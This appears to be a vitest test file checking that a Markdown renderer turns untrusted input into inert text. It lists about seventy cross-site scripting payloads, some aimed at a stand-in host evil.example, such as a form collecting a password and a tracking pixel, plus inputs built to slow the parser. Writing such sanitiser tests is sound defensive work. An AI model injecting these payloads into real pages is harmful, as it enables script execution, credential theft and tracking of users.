import { describe, expect, it } from 'vitest'
import { renderMarkdown } from './markdown.parser.ts'

const ATTACKS = [
  ...[
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example></sCrIpT>',
    '<script\n>alert(1)</script\n>',
    '<<script>alert(1)//<</script>',
  ],
  ...[
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<img/src=x/onerror=alert(1)>',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  ],
  ...['<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)">x</a></svg>'],
  ...['<math><mi xlink:href="data:x,<script>alert(1)</script>">', '<math href="javascript:alert(1)">x</math>'],
  ...[
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)">',
  ],
  ...[
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<base href="//evil.example/">',
    '<link rel=stylesheet href=//evil.example>',
  ],
  ...[
    '<style>*{background:url(//evil.example)}</style>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<body onload=alert(1)>',
  ],
  ...[
    '<form action=//evil.example><input name=password></form>',
    '<button formaction=javascript:alert(1)>x</button>',
    '<input autofocus onfocus=alert(1)>',
  ],
  ...[
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>',
  ],
  ...[
    '<div style="position:fixed;inset:0">x</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  ...[
    '<template><script>alert(1)</script></template>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?>',
  ],
  ...[
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](&#x6A;avascript:alert(1))',
    '[x](javascript&colon;alert(1))',
  ],
  ...[
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox(1))',
    '[x](file:///etc/passwd)',
    '[x](blob:https://evil.example/1)',
    '[x](\u0001javascript:alert(1))',
  ],
  ...[
    '[x](  javascript:alert(1))',
    '[x](<javascript:alert(1)>)',
    '<javascript:alert(1)>',
    '<data:text/html,x>',
    '[x]: javascript:alert(1)\n\n[x]',
  ],
  ...['[x](https://e.example "\\"onmouseover=alert(1)//")', '[x](https://e.example/"onmouseover="alert(1))', '![x](javascript:alert(1))'],
  ...['![x](https://evil.example/pixel.gif)', '![x](data:image/svg+xml,<svg onload=alert(1)>)', '![][x]\n\n[x]: //evil.example/p.png'],
  ...[
    '`<script>alert(1)</script>`',
    '```html\n<script>alert(1)</script>\n```',
    '```"><script>alert(1)</script>\nx\n```',
    '    <script>alert(1)</script>',
  ],
  ...[
    '**<script>alert(1)</script>**',
    '> <img src=x onerror=alert(1)>',
    '- <svg onload=alert(1)>',
    '| <script> |\n|---|\n| alert(1) |',
    '# <script>alert(1)</script>',
  ],
]

/** What the renderer makes of Markdown, and nothing that anybody wrote as markup. */
const OURS = /^<\/?(?:p|br|hr|strong|em|s|code|pre|blockquote|ul|ol|li|h[1-6]|table|thead|tbody|tr|th|td)>$/
const OUR_LINK = /^<a href="(?:https?:\/\/|mailto:)[^"<>]*"(?: title="[^"<>]*")? rel="noopener noreferrer nofollow ugc" target="_blank">$/
const OTHERS = /^<(?:\/a|code class="language-[^"<>]*"|ol start="\d+"|t[hd] style="text-align:(?:left|right|center)")>$/

describe('[P2] Markdown of strangers', () => {
  it('is tried with the usual attacks', () => expect(ATTACKS.length).toBeGreaterThanOrEqual(60))

  it.each(ATTACKS)('shows %j as text', (attack) => {
    const html = renderMarkdown(attack)
    const tags = html.match(/<[^>]*>/g) ?? []
    expect(tags.filter((tag) => !OURS.test(tag) && !OUR_LINK.test(tag) && !OTHERS.test(tag))).toEqual([])
    expect(html).not.toMatch(/<img|<script/i)
  })

  it('becomes what was meant where it is harmless', () => {
    expect(renderMarkdown('**a** `b`\n\n- c')).toBe('<p><strong>a</strong> <code>b</code></p>\n<ul>\n<li>c</li>\n</ul>\n')
    expect(renderMarkdown('see https://status.example/x and mail a.txt')).toContain(
      '<a href="https://status.example/x" rel="noopener noreferrer nofollow ugc" target="_blank">https://status.example/x</a> and mail a.txt',
    )
  })

  it.each([['> '.repeat(3000)], ['['.repeat(9000)], ['*a_'.repeat(3000)], ['`'.repeat(9999)], ['- '.repeat(4000)], ['|'.repeat(9000)]])(
    'bears ten thousand signs that are made to cost time: %.6s',
    (hostile) => {
      expect(() => renderMarkdown(hostile)).not.toThrow()
    },
  )
})
